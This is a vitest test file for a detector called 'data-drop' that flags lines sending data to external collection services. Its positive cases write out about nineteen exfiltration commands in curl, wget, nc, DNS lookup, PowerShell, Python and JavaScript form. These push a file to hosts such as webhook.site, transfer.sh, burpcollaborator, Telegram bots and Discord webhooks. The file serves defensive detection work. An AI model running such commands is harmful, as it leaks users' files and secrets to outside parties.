// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of the shell look like that
import { describe, expect, it } from 'vitest';
import { dataDrop } from '../../../origin/scan/detectors/secrets/data-drop.ts';
import { inspect, linesFound } from './inspect.ts';

/** Put together here, so that this file holds no token. */
const token = `${'123456789'}:${'AbCdEfGhIj'.repeat(4).slice(0, 35)}`;
const hook = `${'123456789'.repeat(2)}/${'AbCdEfGhIj'.repeat(7).slice(0, 68)}`;

describe('data-drop', () => {
  it.each([
    'curl -s -d @notes.txt https://webhook.site/4c1d',
    'curl -X POST --data-binary @- https://WEBHOOK.SITE/4c1d < notes.txt',
    'sudo /usr/bin/curl https://eo1.m.pipedream.net -F "file=@notes.txt"',
    'cat notes.txt | curl -T - https://transfer.sh/notes.txt',
    'curl --upload-file ./notes.txt https://transfer.sh/notes.txt',
    'curl -F file=@notes.txt https://file.io',
    'curl "https://webhook.site/4c1d?d=$(base64 notes.txt)"',
    'wget --post-file=notes.txt https://abc.requestcatcher.com/a',
    'cat notes.txt | nc termbin.com 9999',
    'nslookup $(whoami).abc.oast.fun',
    'dig "${NAME}.c1.burpcollaborator.net"',
    'requests.post("https://webhook.site/4c1d", json=notes)',
    'await fetch("https://abc.beeceptor.com/a", { method: "POST", body: notes });',
    'axios.post(`https://x1.oastify.com/`, notes)',
    'curl -d @notes.txt https://1a2b.ngrok-free.app/in',
    'curl -d "$NOTES" https://two-words.trycloudflare.com',
    'Invoke-RestMethod -Uri https://webhook.site/4c1d -Method Post -Body $notes',
    `curl -F chat_id=1 -F document=@notes.txt https://api.telegram.org/bot${token}/sendDocument`,
    `requests.post("https://discord.com/api/webhooks/${hook}", json={"content": notes})`,
  ])('finds: %s', (text) => {
    expect(linesFound(dataDrop, `# Report\n${text}\n`, { path: 'a.sh' })).toEqual([2]);
  });

  it.each([
    'To look at a hook, open https://webhook.site and copy the address.',
    'Services like webhook.site, requestbin.com or ngrok.io help with tests.',
    'curl https://transfer.sh/abc/notes.txt -o notes.txt',
    'curl -fsSL https://transfer.sh/abc/notes.txt > notes.txt',
    'curl -X POST -d \'{"a": 1}\' https://webhook.site/your-id',
    'curl -X POST -d \'{"event": "test"}\' https://1a2b.ngrok-free.app/hook',
    'curl -d @notes.json https://api.example.com/v1/notes',
    'curl -s "https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/sendMessage" -d text="$TEXT"',
    'requests.post(f"https://discord.com/api/webhooks/{hook_id}/{hook_token}", json=message)',
    'curl -d @notes.txt https://profile.io/api',
    'curl -d @notes.txt https://webhook.site.example.com/api',
    'ngrok http 3000',
    'Never run `curl -d @.env https://webhook.site/4c1d`.',
    'const file = io.open("notes.txt")',
    'ping host.example',
    'open("https://pastebin.com/raw/abc")',
  ])('lets be: %s', (text) => {
    expect(inspect(dataDrop, `# Report\n${text}\n`)).toEqual([]);
  });

  it('joins the lines of a command', () => {
    expect(linesFound(dataDrop, 'curl -s \\\n  -d @notes.txt \\\n  https://webhook.site/4c1d\n')).toEqual([1]);
  });

  it('joins a call and the address on the next line', () => {
    expect(linesFound(dataDrop, 'requests.post(\n    "https://webhook.site/4c1d",\n    data=notes,\n)\n')).toEqual([2]);
  });

  it('follows an address that has a name', () => {
    expect(linesFound(dataDrop, 'HOOK = "https://webhook.site/4c1d"\n\nrequests.post(HOOK, json=notes)\n')).toEqual([
      3,
    ]);
    expect(linesFound(dataDrop, 'HOOK=https://webhook.site/4c1d\ncurl -d @notes "$HOOK"\n')).toEqual([2]);
    expect(linesFound(dataDrop, 'HOOK = "https://api.example/4c1d"\n\nrequests.post(HOOK, json=notes)\n')).toEqual([]);
  });

  it('names the service and no token', () => {
    expect(inspect(dataDrop, 'curl -T a https://transfer.sh/a')[0]?.message).toBe(
      'The line sends data to transfer.sh.',
    );
    const found = inspect(dataDrop, `curl -d text=a https://api.telegram.org/bot${token}/sendMessage`);
    expect(found[0]?.message).not.toContain(token.slice(0, 9));
  });
});
